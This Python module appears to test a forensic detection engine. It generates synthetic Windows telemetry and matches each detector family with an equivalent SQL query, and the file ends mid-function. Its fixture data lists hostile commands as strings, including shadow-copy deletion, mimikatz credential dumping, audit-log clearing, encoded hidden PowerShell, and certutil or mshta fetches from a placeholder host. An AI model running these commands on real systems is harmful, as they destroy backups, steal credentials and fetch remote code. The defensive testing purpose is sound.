"""Queries that run each family's detectors over telemetry derived from the events table, with equal SQL.

An event's id chooses the values of a row, so that rows grow with the table; each query routes its rows by the artifact's
name and runs what the engine runs for that family.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import reduce

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tracehound.functions import tables as V
from tracehound.operators import detectors as D
from tracehound.operators.findings import union
from tracehound.operators.textlogs import ALERT_PREFIXES, EXPORT_WORDS, SUSPICIOUS_URI, SYSTEM_LINES, text_logs
from tracehound.sources.canonical import canonical, family_of
from tracehound.sources.staging import table

from .later import E, Later, made

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
ORACLES: dict[str, str] = {}
FOUND = ("row_index", "category", "severity", "title", "score", "mitre")


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def pick(values: list[str], every: int = 1) -> tuple[Later, str]:
    """A value by event_id, as a Column and as SQL."""
    at = E.floor(E.col("event_id") / every) % len(values)
    return E.element_at(E.array(*map(E.lit, values)), (at + 1).cast("int")), f"([{', '.join(map(quoted, values))}])[((event_id // {every}) % {len(values)} + 1)::int]"


def text(spark: str, duck: str | None = None) -> tuple[Later, str]:
    return E.expr(spark).cast("string"), f"({duck or spark})::varchar"


def telemetry(spark: SparkSession, sf_dir: str, artifact: str, fields: dict[str, tuple[Later, str]]) -> DataFrame:
    """rows(host, artifact, row_index, source_file, row) of one artifact, a row for each event."""
    row = F.create_map(*[x for k, (column, _) in fields.items() for x in (F.lit(k), made(column))])
    return table(spark, sf_dir, "events").select(F.concat(F.lit("h"), (F.floor(F.col("event_id") / 40) % 5).cast("string")).alias("host"), F.lit(artifact).alias("artifact"), F.col("event_id").cast("long").alias("row_index"), F.lit("f").alias("source_file"), row.alias("row"))


def telemetry_sql(fields: dict[str, tuple[Later, str]]) -> str:
    return "t as (select event_id as row_index, 'h' || (event_id // 40) % 5 as host, " + ", ".join(f"{sql} as {k}" for k, (_, sql) in fields.items()) + " from events)"


def signature_sql(name: str, rows) -> str:
    return f"{name}(n, label, severity, pattern) as (values " + ", ".join(f"({i}, {quoted(label)}, '{severity}', {quoted('(?i)' + pattern)})" for i, (pattern, label, severity) in enumerate(rows)) + ")"


COMMANDS_SQL = signature_sql("cmds", V.COMMAND_SIGNATURES)
PATHS_SQL = signature_sql("places", V.PATH_SIGNATURES)
RANK = "case {0} when 'critical' then 0 when 'high' then 1 when 'medium' then 2 when 'low' then 3 else 4 end"


def in_list(names) -> str:
    return "(" + ", ".join(map(quoted, names)) + ")"


def base(path: str) -> str:
    return f"regexp_extract({path}, '([^\\\\/]*)$', 1)"


def place_hits(alias: str, path: str, name: str, source: str = "t") -> str:
    """CTE: all suspicious places of a path, without the rule for the Windows folder where the program belongs there."""
    return f"{alias} as (select {source}.*, n, label, severity from {source} join places on regexp_matches({path}, pattern) where not (n = {len(V.PATH_SIGNATURES) - 1} and lower({name}) in {in_list(V.WINDOWS_ROOT_NAMES)}))"


def command_hits(alias: str, expr: str, where: str = "true", source: str = "t") -> str:
    return f"{alias} as (select {source}.*, n, label, severity, length(regexp_extract({expr}, pattern)) as len from {source} join cmds on regexp_matches({expr}, pattern) where {where})"


def first(alias: str, of: str, where: str = "true") -> str:
    return f"{alias} as (select * from {of} where {where} qualify row_number() over (partition by row_index order by n) = 1)"


def found(findings: DataFrame, *more: str) -> DataFrame:
    return findings.select(*more, *FOUND)


def select(category: str, severity: str, title: str, score: str, mitre: str, rest: str) -> str:
    return f"select row_index, {category} as category, {severity} as severity, {title} as title, ({score})::int as score, {mitre} as mitre {rest}"


def family_query(name: str, artifact: str, fields: dict[str, tuple[Later, str]], ctes: list[str], parts: list[str], detect: list | None = None, shape: Callable[[DataFrame], DataFrame] = found) -> None:
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        rows = telemetry(spark, sf_dir, artifact, fields)
        family = rows.sparkSession.range(1).select(family_of(F.lit(artifact))).first()[0]
        if family == "textlog":
            return shape(text_logs(rows))
        typed = canonical(rows, family)
        return shape(union(*[d(typed) for d in detect or D.DETECTORS[family]]))

    run.__name__ = name
    QUERIES[name] = run
    ORACLES[name] = "with " + ", ".join([telemetry_sql(fields), *ctes]) + " " + " union all ".join(parts)


NAMES = ["winword.exe", "powershell.exe", "svchost.exe", "cmd.exe", "explorer.exe", "excel.exe", "notepad.exe", "lsass.exe", "chrome.exe", "mshta.exe", "w3wp.exe"]
FOLDERS = ["C:\\Windows\\System32\\", "C:\\Users\\bob\\AppData\\Local\\Temp\\", "C:\\Program Files\\Vendor\\", "C:\\Windows\\", "C:\\Users\\Public\\", "C:\\ProgramData\\x\\", "C:\\Users\\bob\\Downloads\\"]
COMMANDS = [
    "powershell -nop -w hidden -enc QUJDREVGR0hJSktMTU5PUFFSU1Q=", "cmd /c vssadmin delete shadows", "notepad a.txt", "rundll32 comsvcs.dll, MiniDump 1", "certutil -urlcache -f http://x", "whoami /priv", "schtasks /create /tn x", "reg add HKLM\\Run",
    "psexec \\\\srv cmd", "ping 10.0.0.1", "wevtutil cl Security", "mimikatz sekurlsa::logonpasswords", "arp -a",
]

# processes

_process = {"Pid": text("event_id"), "Ppid": text("event_id - 1"), "Name": pick(NAMES), "Exe": None, "CommandLine": pick(COMMANDS, 2)}
_process["Exe"] = (E.concat(pick(FOLDERS, 3)[0], pick(NAMES)[0]), f"{pick(FOLDERS, 3)[1]} || {pick(NAMES)[1]}")
_pairs = " or ".join(f"(p.Name = {quoted(k)} and t.Name in {in_list(v)})" for k, v in D.PARENT_CHILDREN.items())
_masks = " or ".join(f"(Name = {quoted(n)} and not regexp_matches(Exe, {quoted('(?i)' + p)}))" for n, p in V.SYSTEM_PROCESS_PATHS.items())
family_query("q_detect_process", "pslist", _process, [COMMANDS_SQL, PATHS_SQL, command_hits("c", "Exe || ' ' || CommandLine"), place_hits("l", "Exe", "Name")], [
    select("'process_anomaly'", "'high'", "'Suspicious parent-child: ' || p.Name || ' > ' || t.Name", "80", "'T1566.001'", f"from t join t p on p.host = t.host and p.Pid = t.Ppid where {_pairs}").replace("select row_index", "select t.row_index"),
    select("'process_anomaly'", "severity", "'Suspicious process command: ' || label", "case when severity in ('critical', 'high') then 80 else 50 end", "'T1059'", "from c"),
    select("'process_anomaly'", "severity", "'Process from suspicious location: ' || label", "60", "'T1036'", "from l"),
    select("'process_anomaly'", "'critical'", "'Process masquerading: ' || Name", "90", "'T1036.005'", f"from t where {_masks}"),
])

# connections

_network = {"remote": (E.concat(pick(["10.0.0.", "8.8.8.", "127.0.0."], 7)[0], (E.col("event_id") % 23).cast("string"), pick([":443", ":4444", ":80", ":31337"])[0]), f"{pick(['10.0.0.', '8.8.8.', '127.0.0.'], 7)[1]} || (event_id % 23) || {pick([':443', ':4444', ':80', ':31337'])[1]}"), "State": pick(["ESTABLISHED", "LISTEN", "established"])}
family_query("q_detect_network", "netstat", _network, [
    "r as (select *, regexp_extract(remote, ':(\\d+)$', 1)::int as port, regexp_replace(remote, ':\\d+$', '') as ip from t)",
    "k as (select host, ip, count(*) as n from r where upper(State) like '%ESTABLISHED%' and not regexp_matches(ip, '^(127\\.|0\\.0|::|\\[::)') group by host, ip)",
    "b as (select *, null::bigint as row_index from k qualify row_number() over (partition by host order by n desc, ip) <= 10)",
], [
    select("'network_anomaly'", "'high'", "'Connection to suspicious port ' || port", "70", "'T1571'", f"from r where port in ({', '.join(map(str, V.WATCHED_PORTS))})").replace("select row_index", "select host, '' as description, row_index"),
    select("'network_anomaly'", "'medium'", "'Potential beaconing to ' || ip", "55", "'T1071'", "from b where n >= 5").replace("select row_index", "select host, n || ' connections' as description, row_index"),
], shape=lambda f: found(f.withColumn("description", F.when(F.col("row_index").isNull(), F.col("description")).otherwise("")), "host", "description"))

# Names that were looked up

_labels = ["www", "xkqzjvwprtbnmd", "a" * 55, "mail", "qzxcvbnmlkjhgf"]
_dns = {"domain": (E.concat(pick(_labels)[0], E.lit("."), pick(["evil", "example", "bad"], 5)[0], E.lit(".com")), f"{pick(_labels)[1]} || '.' || {pick(['evil', 'example', 'bad'], 5)[1]} || '.com'"), "rcode": pick(["NOERROR", "NXDOMAIN", "3"], 2), "type": pick(["A", "TXT", "16", "AAAA"], 3)}
_generated = """(select e, v, c from (select list_sum(list_transform(list_distinct(string_split(label, '')), lambda c: -((length(label) - length(replace(label, c, ''))) / length(label)::double) * log2((length(label) - length(replace(label, c, ''))) / length(label)::double))) as e,
 length(regexp_replace(label, '[^aeiou]', '', 'g')) / length(label)::double as v, coalesce(list_max(list_transform(regexp_extract_all(label, '[b-df-hj-np-tv-z]+'), lambda x: length(x))), 0) as c))"""
family_query("q_detect_dns", "dns_cache", _dns, [
    "l as (select *, split_part(lower(domain), '.', 1) as label, regexp_extract(domain, '([^.]+\\.[^.]+)$', 1) as reg from t)",
    f"g as (select l.*, x.e, x.v, x.c from l, lateral {_generated} x)",
    "k as (select host, reg, count(*) filter (lower(rcode) like '%nxdomain%' or rcode = '3') as missing, count(*) filter (upper(type) in ('TXT', '16')) as txt from l group by host, reg)",
], [
    select("'network_anomaly'", "'low'", "'Generated-looking domain: ' || domain", "40", "'T1568.002'", "from g where length(label) >= 12 and (e >= 3.6)::int + (v <= 0.25)::int + (c >= 5)::int >= 2").replace("select row_index", "select host, row_index"),
    select("'network_anomaly'", "'medium'", "'Very long DNS label: ' || reg", "50", "'T1071.004'", "from l where length(label) > 50").replace("select row_index", "select host, row_index"),
    select("'network_anomaly'", "'medium'", "'NXDOMAIN burst: ' || reg", "55", "'T1568.002'", "from k where missing >= 10").replace("select row_index", "select host, null"),
    select("'network_anomaly'", "'medium'", "'High volume of TXT queries: ' || reg", "55", "'T1071.004'", "from k where txt >= 20").replace("select row_index", "select host, null"),
], shape=lambda f: found(f, "host"))

# services

_paths = ["C:\\Program Files\\My App\\svc.exe", "\"C:\\Windows\\Temp\\x.exe\"", "C:\\Users\\Public\\a.exe -k", "C:\\Windows\\System32\\svchost.exe -k netsvcs", "C:\\x\\run.exe powershell -enc QUJDREVGR0hJSktMTU5PUFFSU1Q=", "C:\\ProgramData\\y.exe", "C:\\Tools\\ok.exe"]
_service = {"Name": pick(["svc", "wuauserv", "updater"], 7), "PathName": pick(_paths)}
_good = f"(lower(Name) in {in_list(V.KNOWN_GOOD_SERVICE_NAMES)} or (({' or '.join(f'contains(lower(PathName), {quoted(p.lower())})' for p in V.KNOWN_GOOD_SERVICE_PATHS)}) and not regexp_matches(PathName, '(?i)-enc\\b|frombase64|downloadstring|iex\\s*\\(')))"
_first_rank = f"{RANK.format('severity')} <= 2"
family_query("q_detect_service", "services", _service, [
    COMMANDS_SQL, PATHS_SQL, f"s as (select *, split_part({base('PathName')}, ' ', 1) as program, split_part(lower(PathName), '.exe', 1) as before from t where not {_good})",
    command_hits("c", "PathName", source="s"), first("c1", "c", "len >= 4"), place_hits("l", "PathName", "program", "s"), first("l1", "l"),
], [
    select("'persistence'", "severity", "'Service binary in suspicious location'", "case severity when 'critical' then 90 when 'high' then 75 else 50 end", "'T1543.003'", f"from l1 where {_first_rank}"),
    select("'persistence'", "case when severity in ('critical', 'high') then severity else 'medium' end", "'Service with suspicious command: ' || label", "70", "'T1543.003'", "from c1"),
    select("'persistence'", "'medium'", "'Unquoted service path'", "40", "'T1574.009'", "from s where PathName not like '\"%' and contains(lower(PathName), '.exe') and contains(before, ' ')"),
])

# tasks

_task = {"Name": pick(["t1", "t2"]), "Command": pick(["cmd.exe", "C:\\Users\\Public\\x.exe", "C:\\Windows\\explorer.exe", "powershell"]), "Arguments": pick(COMMANDS, 3)}
family_query("q_detect_task", "scheduledtasks", _task, [COMMANDS_SQL, PATHS_SQL, f"u as (select *, Command || ' ' || Arguments as whole, split_part({base('Command')}, ' ', 1) as program from t)", command_hits("c", "whole", source="u"), place_hits("l", "whole", "program", "u")], [
    select("'persistence'", "severity", "'Scheduled task with suspicious command: ' || label", "80", "'T1053.005'", "from c"),
    select("'persistence'", "'medium'", "'Scheduled task references suspicious path'", "50", "'T1053.005'", "from l"),
])

# Event records

_ids = ["1102", "104", "4720", "4728", "4698", "7045", "4104", "4688", "1116", "1117", "5001", "5010", "5012", "5004", "5007", "3002", "4625", "4624", "4697"]
_event = {"EventID": pick(_ids), "Channel": pick(["Security", "System", "Microsoft-Windows-Windows Defender/Operational", ""], 19), "d": pick(["Trojan:Win32/Foo.A Allow", "powershell -enc abc", "IEX(New-Object Net.WebClient)", "plain words", "from 10.1.1.9 port 3"], 4)}
_eid, _when = "EventID::int", "true"
_sec, _sys = "(lower(Channel) like '%security%' or Channel = '')", "(lower(Channel) like '%security%' or lower(Channel) like '%system%' or lower(Channel) like '%eventlog%')"
_def = "lower(Channel) like '%defender%'"
_payload = "regexp_matches(data, " + quoted("(?i)" + D.PAYLOAD) + ")"
_plain_sql = [select(f"'{f[0]}'", f"'{f[1]}'", quoted(f[2]), str(f[3]), f"'{f[4]}'", f"from t where {_eid} in ({', '.join(map(str, ids))})") for ids, f in D.PLAIN_EVENTS.items()]
_plain_sql += [select(f"'{f[0]}'", f"'{f[1]}'", quoted(f[2]), str(f[3]), f"'{f[4]}'", f"from t where {_eid} in ({', '.join(map(str, ids))}) and {_def}") for ids, f in D.DEFENDER_EVENTS.items()]
family_query("q_detect_event", "evtx_records", _event, [
    COMMANDS_SQL, "e as (select *, EventID || ' ' || Channel || ' ' || d as data from t)", command_hits("c", "data", source="e"), first("c1", "c"),
    "k as (select host, coalesce(nullif(regexp_extract(data, '(\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3})', 1), ''), 'unknown') as source, count(*) as n from e where EventID = '4625' group by 1, 2 having count(*) >= 5)",
], [
    select("'defense_evasion'", "'critical'", "'Security audit log cleared'", "95", "'T1070.001'", f"from t where {_eid} = 1102 and {_sec}"), select("'defense_evasion'", "'high'", "'Event log cleared'", "75", "'T1070.001'", f"from t where {_eid} = 104 and {_sys}"), *_plain_sql,
    select("'persistence'", f"case when {_payload} then 'high' else 'medium' end", "'New service installed'", f"case when {_payload} then 75 else 50 end", "'T1543.003'", f"from e where {_eid} in (4697, 7045)"),
    select("'execution'", "severity", "'Suspicious PowerShell script block: ' || label", "75", "'T1059.001'", f"from c1 where {_eid} = 4104"), select("'execution'", "severity", "'Suspicious process creation: ' || label", "70", "'T1059'", f"from c1 where {_eid} = 4688"),
    select("'malware'", "'critical'", "'Windows Defender detected: ' || coalesce(nullif(regexp_extract(data, '(?i)([A-Za-z]+:[A-Za-z0-9]+/[A-Za-z0-9_.!-]+)', 1), ''), 'unknown threat')", "95", "'T1204'", f"from e where {_eid} = 1116 and {_def}"),
    select("'malware'", "case when regexp_matches(data, '(?i)\\bAllow\\b') then 'critical' else 'high' end", "'Defender action taken on detected threat' || case when regexp_matches(data, '(?i)\\bAllow\\b') then ' (allowed)' else '' end", "case when regexp_matches(data, '(?i)\\bAllow\\b') then 95 else 80 end", "'T1204'", f"from e where {_eid} = 1117 and {_def}"),
    select("'credential_access'", "'high'", "'Possible brute-force from ' || source", "65", "'T1110'", "from k").replace("select row_index", "select null"),
], detect=[D.events])

# Logons by account

_auth = {"EventID": pick(["4625", "4625", "4625", "4625", "4625", "4624", "4624"]), "TargetUserName": (E.concat(E.lit("u"), (E.floor(E.col("event_id") / 7) % 9).cast("string")), "'u' || (event_id // 7) % 9"), "LogonType": pick(["10", "3", "2"], 5), "time": (E.date_format(E.timestamp_seconds(E.lit(1_700_000_000) + E.col("event_id") * 60), "yyyy-MM-dd'T'HH:mm:ss'Z'"), "strftime(make_timestamp((1700000000 + event_id * 60) * 1000000), '%Y-%m-%dT%H:%M:%SZ')"), "IpAddress": (E.concat(E.lit("10.0.0."), (E.col("event_id") % 6).cast("string")), "'10.0.0.' || event_id % 6")}
family_query("q_detect_auth", "eventlog_logons", _auth, [
    "e as (select *, strptime(time, '%Y-%m-%dT%H:%M:%SZ') as ts, (EventID = '4625')::int as f from t)",
    "g as (select *, coalesce(sum(1 - f) over (partition by host, TargetUserName order by ts, row_index rows between unbounded preceding and 1 preceding), 0) as g from e)",
    "s as (select *, sum(f) over (partition by host, TargetUserName, g) as failures from g)",
    "m as (select host, TargetUserName, count(distinct IpAddress) as n from e where f = 0 group by 1, 2 having count(distinct IpAddress) >= 3)",
], [
    select("'credential_access'", "'high'", "'Successful logon for ''' || TargetUserName || ''' after ' || failures || ' failed attempts'", "85", "'T1110'", "from s where f = 0 and failures >= 5"),
    select("'credential_access'", "'medium'", "'Account ''' || TargetUserName || ''' logged on from ' || n || ' distinct sources'", "50", "'T1078'", "from m").replace("select row_index", "select null"),
    select("'credential_access'", "'low'", "'Off-hours privileged logon for ''' || TargetUserName || ''''", "30", "'T1078'", "from e where f = 0 and LogonType in ('2', '10') and (hour(ts) >= 22 or hour(ts) < 5)"),
], detect=[D.auth])

# The system monitor's events

_sysmon = {
    "EventID": pick(["1", "3", "8", "10", "11", "17", "25", "13", "6", "12", "18"]), "Image": (E.concat(pick(FOLDERS, 2)[0], pick(NAMES, 3)[0]), f"{pick(FOLDERS, 2)[1]} || {pick(NAMES, 3)[1]}"), "CommandLine": pick(COMMANDS, 5), "ParentImage": (E.concat(E.lit("C:\\p\\"), pick(NAMES, 4)[0]), f"'C:\\p\\' || {pick(NAMES, 4)[1]}"),
    "DestinationIp": pick(["8.8.8.8", "127.0.0.1", "fe80::1", ""], 2), "DestinationPort": pick(["443", "4444", "80"], 3), "SourceImage": pick(["C:\\x\\evil.exe", "C:\\Windows\\System32\\svchost.exe"], 2), "TargetImage": pick(["C:\\Windows\\System32\\lsass.exe", "C:\\x\\other.exe"], 3), "CallTrace": pick(["UNKNOWN(1)", "ntdll"], 5),
    "TargetFilename": pick(["C:\\Users\\Public\\a.ps1", "C:\\x\\b.txt", "C:\\ProgramData\\c.exe", "C:\\Windows\\Temp\\d.dll"], 2), "PipeName": pick(["\\msagent_12", "\\lsass", "\\12345", "\\postex_1"], 2), "Type": pick(["hollow", "herpaderp"], 3), "TargetObject": pick(["HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "HKLM\\System\\x"], 3), "ImageLoaded": pick(["C:\\d\\x.sys"]), "Signed": pick(["false", "true"], 3),
}
_image = lambda column: f"lower({base(column)})"
_children = " or ".join(f"({_image('ParentImage')} = {quoted(p)} and {_image('Image')} in {in_list(c)})" for p, c in V.SYSMON_PARENT_CHILDREN.items())
_ports = f"DestinationPort::int in ({', '.join(map(str, V.WATCHED_PORTS))})"
family_query("q_detect_sysmon", "sysmon", _sysmon, [
    COMMANDS_SQL, PATHS_SQL, signature_sql("pipes", D.BAD_PIPES), command_hits("c", "Image || ' ' || CommandLine", "EventID = '1'"), first("c1", "c"), place_hits("l", "Image", _image("Image")), first("l1", "l", "EventID = '1'"),
    place_hits("w", "TargetFilename", base("TargetFilename")), first("w1", "w", f"EventID = '11' and {RANK.format('severity')} <= 2 and regexp_matches(TargetFilename, {quoted('(?i)' + D.SCRIPT_ENDINGS)})"),
    "q as (select t.*, n, label, severity from t join pipes on regexp_matches(PipeName, pattern) where EventID in ('17', '18'))", first("q1", "q"),
], [
    select("'process_anomaly'", "severity", "'Sysmon: suspicious process command (' || label || ')'", "case when severity in ('critical', 'high') then 80 else 50 end", "'T1059'", "from c1"), select("'process_anomaly'", "severity", "'Sysmon: process from suspicious location (' || label || ')'", "60", "'T1036'", "from l1"),
    select("'process_anomaly'", "'high'", f"'Sysmon: suspicious parent-child (' || {_image('ParentImage')} || ' > ' || {_image('Image')} || ')'", "80", "'T1566.001'", f"from t where EventID = '1' and ({_children})"),
    select("'network_anomaly'", "'high'", "'Sysmon: connection to suspicious port ' || DestinationPort", "70", "'T1571'", f"from t where EventID = '3' and {_ports}"),
    select("'network_anomaly'", "'high'", f"'Sysmon: LOLBin ''' || {_image('Image')} || ''' made a network connection'", "70", "'T1105'", f"from t where EventID = '3' and not {_ports} and {_image('Image')} in {in_list(V.LOLBINS)} and DestinationIp <> '' and not regexp_matches(DestinationIp, '^(127\\.|::1|0\\.0|169\\.254|fe80)')"),
    select("'defense_evasion'", "'high'", f"'Sysmon: remote thread injection (' || {_image('SourceImage')} || ' > ' || {_image('TargetImage')} || ')'", "80", "'T1055'", "from t where EventID = '8'"),
    select("'credential_access'", "case when contains(lower(CallTrace), 'unknown') then 'critical' else 'high' end", f"'Sysmon: lsass.exe memory access by ''' || {_image('SourceImage')} || ''''", "case when contains(lower(CallTrace), 'unknown') then 90 else 78 end", "'T1003.001'", f"from t where EventID = '10' and {_image('TargetImage')} = 'lsass.exe' and {_image('SourceImage')} not in {in_list(V.LSASS_READERS)}"),
    select("'execution'", "'medium'", "'Sysmon: executable/script dropped in suspicious location'", "45", "'T1105'", "from w1"), select("'lateral_movement'", "'high'", "'Sysmon: suspicious named pipe (' || label || ')'", "72", "'T1021.002'", "from q1"),
    select("'defense_evasion'", "'high'", "'Sysmon: process tampering detected (' || Type || ')'", "82", "'T1055.012'", "from t where EventID = '25'"),
    select("'persistence'", "'medium'", "'Sysmon: autorun/persistence registry modification'", "55", "'T1547.001'", f"from t where EventID in ('12', '13') and ({' or '.join(f'contains(lower(TargetObject), {quoted(k)})' for k in D.SYSMON_AUTORUNS)})"),
    select("'defense_evasion'", "'high'", "'Sysmon: unsigned driver loaded (x.sys)'", "70", "'T1014'", "from t where EventID = '6' and Signed = 'false'"),
])

# Registry, shortcuts, caches of execution, files

_registry = {"key": pick(["HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "HKCU\\Software\\Vendor", "HKLM\\x\\Winlogon"]), "value": pick(["C:\\Users\\Public\\x.exe -w hidden", "C:\\ok\\y.exe", "mshta http://x", "C:\\Windows\\Temp\\z.exe", "abc", "C:\\ProgramData\\low.exe"], 3)}
_auto = "(" + " or ".join(f"contains(lower(key), {quoted(k.lower())})" for k in V.AUTORUN_KEYS) + ")"
family_query("q_detect_registry", "registry_values", _registry, [COMMANDS_SQL, PATHS_SQL, f"r as (select *, {_auto} as autorun, split_part({base('value')}, ' ', 1) as program from t)", command_hits("c", "value", "length(value) >= 6", "r"), first("c1", "c", "len >= 4"), place_hits("l", "value", "program", "r"), first("l1", "l", f"autorun and {_first_rank}")], [
    select("'persistence'", "case when severity in ('critical', 'high') and autorun then severity else 'medium' end", "'Suspicious registry value: ' || label", "case when autorun then 70 else 45 end", "'T1547.001'", "from c1"), select("'persistence'", "'medium'", "'Registry autorun from suspicious path'", "55", "'T1547.001'", "from l1"),
])
_lnk = {"target": pick(["mshta http://x", "C:\\a\\b.exe", "powershell"]), "args": pick(COMMANDS, 3)}
family_query("q_detect_links", "lnk_files", _lnk, [COMMANDS_SQL, command_hits("c", "target || ' ' || args")], [select("'execution'", "severity", "'Shortcut with suspicious target: ' || label", "65", "'T1204.002'", "from c")])
_prefetch = {"Name": pick(NAMES), "Path": (E.concat(pick(FOLDERS, 2)[0], pick(NAMES)[0]), f"{pick(FOLDERS, 2)[1]} || {pick(NAMES)[1]}")}
family_query("q_detect_execution", "prefetch", _prefetch, [PATHS_SQL, place_hits("l", "Path", "Name")], [select("'execution_evidence'", "severity", "'Execution evidence: ' || label", "45", "'T1204'", "from l")])
_cached = {"path": (E.concat(pick([*FOLDERS, "C:\\$Recycle.Bin\\", "D:\\"], 2)[0], pick(["a.pdf.exe", "b.exe", "c.docx.scr", ""])[0]), f"{pick([*FOLDERS, 'C:\\$Recycle.Bin\\', 'D:\\'], 2)[1]} || {pick(['a.pdf.exe', 'b.exe', 'c.docx.scr', ''])[1]}")}
_double = r"regexp_matches(path, '(?i)\.(pdf|docx?|xlsx?|pptx?|jpe?g|png|gif|txt|zip|rar|html?)\.(exe|scr|bat|cmd|com|pif|js|vbs|ps1|hta|lnk)$')"
for _name, _artifact, _kind, _rules, _scores, _mitre, _mask in (
    ("q_detect_shimcache", "shimcache", "Shimcache", V.EXECUTION_PATHS, (55, 70), "T1218", ("Shimcache: double-extension masquerade executed", 80, "T1036.007")), ("q_detect_userassist", "userassist", "UserAssist", V.EXECUTION_PATHS, (50, 65), "T1204.002", ("UserAssist: double-extension masquerade launched by user", 82, "T1204.002")),
    ("q_detect_shellbags", "shellbags", "Shellbags", V.BROWSE_PATHS, (30, 30), "T1083", None),
):
    family_query(_name, _artifact, _cached, [signature_sql("rules", _rules), "h as (select t.*, n, label, severity from t join rules on regexp_matches(path, pattern))", first("h1", "h")], [
        select("'execution_evidence'", "severity", f"'{_kind}: ' || label", f"case when severity = 'medium' then {_scores[0]} else {_scores[1]} end", f"'{_mitre}'", "from h1"),
        *([select("'execution_evidence'", "'high'", f"'{_mask[0]}'", str(_mask[1]), f"'{_mask[2]}'", f"from t where {_double}")] if _mask else []),
    ])
_file = {"FullPath": _cached["path"]}
family_query("q_detect_files", "mft_metadata", _file, [
    PATHS_SQL, place_hits("l", "FullPath", base("FullPath")), first("l1", "l", f"regexp_matches(FullPath, {quoted('(?i)' + D.PROGRAM_ENDINGS)})"), f"k as (select * from t where regexp_matches(FullPath, {quoted('(?i)' + D.FILE_MASKS)}) qualify row_number() over (partition by host order by row_index) <= 50)",
    "p as (select * from l1 qualify row_number() over (partition by host order by row_index) <= 100)", "many as (select host, count(*) as n from l1 group by host having count(*) > 100)",
], [
    select("'defense_evasion'", "'high'", "'Double extension file (masquerading)'", "70", "'T1036.007'", "from k"), select("'suspicious_file'", "'medium'", "'Executable in suspicious location'", "45", "'T1036'", "from p"),
    select("'suspicious_file'", "'high'", "n || ' executables in suspicious locations'", "60", "'T1036'", "from many").replace("select row_index", "select null"),
])

# Antivirus log events, content matches, anything else

_av = {"event_type": pick(["detection", "ems_detection", "sdn", "estimated_impact"]), "threat_name": pick(["Trojan:X", "HackTool:Y"], 4), "file": pick(["C:\\a\\b.exe", "D:\\c.dll"], 4), "process": pick(["rclone.exe", "word.exe"], 4), "files_accessed": pick(["50000", "12", "x", "1000"], 8), "max_time_file": pick(["\\\\srv\\share\\x", "C:\\Users\\Public\\y", "C:\\ok\\z", "\\Device\\Mup\\q"], 4)}
_share, _local, _much = "(contains(lower(max_time_file), '\\device\\mup\\') or regexp_matches(max_time_file, '^\\\\\\\\[^\\\\]+\\\\[^\\\\]+'))", f"regexp_matches(lower(max_time_file), {quoted(D.DATA_PLACES)})", "coalesce(try_cast(files_accessed as int), 0) >= 1000"
family_query("q_detect_avlog", "mplog_events", _av, [], [
    select("'malware'", "'critical'", "'MPLog: Defender detected ' || threat_name", "90", "'T1204'", "from t where event_type = 'detection'"), select("'malware'", "'critical'", "'MPLog: memory scan detected ' || threat_name", "92", "'T1055'", "from t where event_type = 'ems_detection'"),
    select("'execution_evidence'", "'low'", f"'MPLog: cloud lookup of ' || {base('file')}", "35", "'T1204'", "from t where event_type = 'sdn'"),
    select("'execution'", f"case when {_share} or {_much} then 'high' else 'low' end", f"'MPLog: ' || process || ' ' || case when {_share} then 'accessed many files of a network share' when {_much} and not {_local} then 'accessed an unusually high number of files' else 'accessed a file in a suspicious location' end", f"case when {_share} or {_much} then 70 else 40 end", f"case when {_share} then 'T1567' else 'T1204' end", f"from t where event_type = 'estimated_impact' and ({_share} or {_local} or {_much})"),
])
_content = {"rule": pick(["SUSP_Mimikatz_Strings", "Other_Rule", "SUSP_CobaltStrike_Beacon_Indicators", "Generic_Thing"]), "severity": pick(["high", "", "low", "critical"], 3), "mitre": pick(["T1000", ""], 5), "filename": pick(["C:\\x\\a.exe", "C:\\Program Files\\Windows Defender\\b.dll"], 2)}
_vendor = "(" + " or ".join(f"contains(lower(replace(filename, '/', '\\')), {quoted(v.lower())})" for v in V.VENDOR_PATHS) + f") and rule not in {in_list(V.SPECIFIC_CONTENT_RULES)}"
_fam = lambda i: "case " + " ".join(f"when contains(lower(rule), {quoted(k.lower())}) then {quoted(v[i])}" for k, v in V.MALWARE_FAMILIES.items()) + " end"
family_query("q_detect_content", "yara_matches", _content, [f"x as (select *, {_fam(0)} as fs, {_fam(1)} as fm, coalesce({_fam(0)}, nullif(severity, ''), 'medium') as level, {_vendor} as vendor from t)"], [
    select("'yara_match'", "level", "'Content rule match: ' || rule", "case level when 'critical' then 92 when 'high' then 78 when 'medium' then 55 when 'low' then 30 when 'info' then 15 else 55 end", "case when coalesce(fs <> severity, false) and mitre = '' then fm else mitre end", "from x where not vendor"),
    select("'yara_match'", "case when level in ('critical', 'high') then 'low' else 'info' end", "'Content rule match in vendor folder: ' || rule", "15", "mitre", "from x where vendor"),
])


def q_detect_generic(spark: SparkSession, sf_dir: str) -> DataFrame:
    return found(D.generic(telemetry(spark, sf_dir, "something", _generic), most=10**9))


_generic = {"a": pick(COMMANDS), "b": pick(["x", "mshta http://q", "y"], 2)}
QUERIES["q_detect_generic"] = q_detect_generic
ORACLES["q_detect_generic"] = f"with {telemetry_sql(_generic)}, {COMMANDS_SQL}, {command_hits('c', 'a || chr(32) || b', source='t')}, {first('c1', 'c', 'severity in (' + quoted('critical') + ', ' + quoted('high') + ')')} " + select("'suspicious_content'", "severity", "'Suspicious content: ' || label", "45", "'T1059'", "from c1")

_hashes = {"Name": pick(NAMES), "md5": (E.upper(E.md5(E.concat(E.lit("m"), (E.col("event_id") % 50).cast("string")))), "upper(md5('m' || event_id % 50))"), "sha1": pick(["", "short", "x" * 40], 3)}


def q_detect_hashes(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The feed holds the hashes of seven users' names; a note for some."""
    ioc = table(spark, sf_dir, "events").select(F.col("user_id") % 50).distinct().toDF("u").filter("u % 7 = 0").select(F.md5(F.concat(F.lit("m"), F.col("u").cast("string"))).alias("hash"), F.when(F.col("u") % 2 == 0, F.concat(F.lit("note "), F.col("u").cast("string"))).alias("note"))
